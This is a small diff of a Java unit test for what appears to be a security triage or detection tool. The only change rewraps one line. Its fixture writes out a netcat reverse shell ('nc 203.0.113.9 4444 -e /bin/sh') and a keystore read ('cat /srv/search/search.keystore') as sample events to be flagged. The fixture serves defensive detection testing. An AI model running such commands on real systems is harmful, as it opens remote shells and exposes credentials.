@@ -182,7 +182,8 @@ final class TriageCommandTest {
                         + ",\"process\":{\"pid\":32,\"ppid\":30,\"executable\":\"/bin/nc\","
                         + "\"arguments\":[\"nc\",\"203.0.113.9\",\"4444\",\"-e\",\"/bin/sh\"]}," + script);
         Run run = Run.hive("watch", "--format", "jsonl", file);
-        JsonNode shell = HiveModule.mapper().readTree(run.out().lines().findFirst().orElseThrow());
+        JsonNode shell =
+                HiveModule.mapper().readTree(run.out().lines().findFirst().orElseThrow());
         assertThat(seen(shell, "before-credential-read")).containsExactly("cat /srv/search/search.keystore");
         assertThat(signal(shell, "target-scope").path("detail").asText()).contains("external");
     }
